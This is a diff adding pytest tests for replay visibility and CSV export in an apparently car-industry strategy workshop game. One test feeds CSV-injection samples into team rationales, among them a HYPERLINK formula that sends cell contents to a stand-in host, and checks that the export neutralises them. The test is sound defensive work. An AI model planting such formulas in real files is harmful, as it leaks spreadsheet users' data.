@@ -3,6 +3,7 @@ replayed and forked like any save; its tables are hostile until checked like eve
 
 import shutil
 
+import numpy as np
 import pytest
 from save_helpers import GOLDEN, digest, sql
 from test_hostile import PLANTS, rejected
@@ -247,3 +248,97 @@ def test_workshop_luck_versus_skill_scores_every_team(wgolden):
     assert list(result.firm_scores["xiaomi"]) == list(result.scores)       # xiaomi is the scenario's player
     i = game.scenario.firm_index("byd")
     assert result.actual_firm_scores["byd"] == float(game.records[-1].report.firm["score"][0, i])
+
+
+def played_workshop(scenario, path, visibility, quarters=3):
+    """A workshop of xiaomi and byd teams played ``quarters`` rounds and saved at ``path``."""
+    from engine.workshop import Visibility
+
+    session = WorkshopSession(scenario, WorkshopSettings(teams=("xiaomi", "byd"), seed=3,
+                                                         visibility=Visibility(**visibility)), now=0.0)
+    for t in range(quarters):
+        play_round(session, 10.0 + t)
+        session.open_next(now=20.0 + t)
+    save_workshop(session, path)
+    return session
+
+
+def test_workshop_replay_team_view_hides_rival_financials_and_history_as_the_workshop_did(scenario, tmp_path):
+    path = tmp_path / "closed.closedloop"
+    session = played_workshop(scenario, path, {"rival_financials": False, "history": False, "leaderboard": False})
+    out = load_outcomes(path)
+    assert out.visibility.rival_financials is False
+    view = out.team_view("byd")
+    x, b = out.firm_ids.index("xiaomi"), out.firm_ids.index("byd")
+    for metric in ("operating_profit_cny", "revenue_cny", "cash_cny", "score", "avg_price_cny"):
+        assert np.isnan(view.firm[metric][:, x]).all(), metric               # a rival's: hidden
+        assert np.isfinite(view.firm[metric][:, b]).all(), metric            # its own: shown
+    assert np.isfinite(out.firm["operating_profit_cny"][:, x]).all()         # the facilitator sees all
+    deliveries = view.firm["deliveries"][:, x]
+    assert np.isnan(deliveries[:2]).all() and deliveries[2] == out.firm["deliveries"][2, x]   # latest only
+    assert [set(q["xiaomi"]) for q in view.decisions] == [set(), set(), {"prices", "launches"}]
+    earlier = out.team_view("byd", through=1).firm["deliveries"][:, x]
+    assert np.isnan(earlier[0]) and earlier[1] == out.firm["deliveries"][1, x]
+    lan = session.team_view("byd")["market"]                                 # what the team was sent
+    assert len(lan) == 1 and "operating_profit_cny" not in lan[0]["firms"][x]
+    assert lan[0]["firms"][x]["deliveries"] == view.firm["deliveries"][2, x]
+
+
+def test_workshop_replay_team_view_shows_rival_financials_when_the_workshop_did(scenario, tmp_path):
+    path = tmp_path / "open.closedloop"
+    session = played_workshop(scenario, path, {"rival_financials": True})
+    out = load_outcomes(path)
+    view = out.team_view("byd")
+    x = out.firm_ids.index("xiaomi")
+    lan = session.team_view("byd")["market"]
+    assert len(lan) == 3
+    for metric in ("operating_profit_cny", "revenue_cny", "cash_cny", "deliveries", "score"):
+        assert view.firm[metric][:, x].tolist() == out.firm[metric][:, x].tolist(), metric
+    for metric in ("operating_profit_cny", "revenue_cny", "cash_cny", "deliveries"):
+        assert [q["firms"][x][metric] for q in lan] == view.firm[metric][:, x].tolist(), metric
+    assert np.isnan(view.firm["gross_margin"][:, x]).all()                  # still private
+    assert set(view.decisions[0]["xiaomi"]) == {"prices", "launches"}        # a rival's budgets never show
+
+
+def test_single_player_replay_team_view_is_unchanged_by_workshop_visibility(scenario, tmp_path):
+    from engine.game import Game
+
+    game = Game.new(scenario, 3)
+    for _ in range(2):
+        game.play_quarter({})
+    path = tmp_path / "solo.closedloop"
+    save_game(game, path)
+    out = load_outcomes(path)
+    assert out.visibility is None
+    view = out.team_view("byd")
+    x = out.firm_ids.index("xiaomi")
+    assert view.firm["operating_profit_cny"][:, x].tolist() == out.firm["operating_profit_cny"][:, x].tolist()
+    assert np.isnan(view.firm["cash_cny"][:, x]).all()
+
+
+def test_workshop_csv_export_keeps_team_text_from_running_as_a_formula(scenario, tmp_path):
+    import csv
+
+    rationales = {"xiaomi": '=HYPERLINK("http://x.example/?d="&A1,"click")', "byd": "@SUM(A1:A9)",
+                  "nio": "+1+1 we gain", "li-auto": "-1 we lose", "xpeng": "\tindented", "aito": "\rreturn",
+                  "tesla": "a = b,\r+c"}                                   # inside: text as it is
+    session = WorkshopSession(scenario, WorkshopSettings(teams=tuple(rationales), seed=3), now=0.0)
+    for team, text in rationales.items():
+        session.predict(team, {"deliveries": 1000, "operating_profit_cny": -2.5e9, "rationale": text}, now=1.0)
+    play_round(session, 2.0)
+    path = tmp_path / "w.closedloop"
+    save_workshop(session, path)
+    files = export_csv(path, tmp_path / "csv")
+    predictions = next(f for f in files if f.name.endswith("-predictions.csv"))
+    with open(predictions, newline="", encoding="utf-8") as handle:
+        rows = {r["team"]: r for r in csv.DictReader(handle)}
+    for team, text in rationales.items():
+        expected = text if team == "tesla" else "'" + text        # a quote in front: shown as text, never run
+        assert rows[team]["rationale"] == expected, team
+        assert rows[team]["operating_profit_cny"] == "-2500000000.0"   # numbers stay numbers
+    for f in files:                                                # no text cell anywhere starts a formula
+        with open(f, newline="", encoding="utf-8") as handle:
+            for row in csv.reader(handle):
+                for cell in row:
+                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                        float(cell)                                # only a number may start with - or +
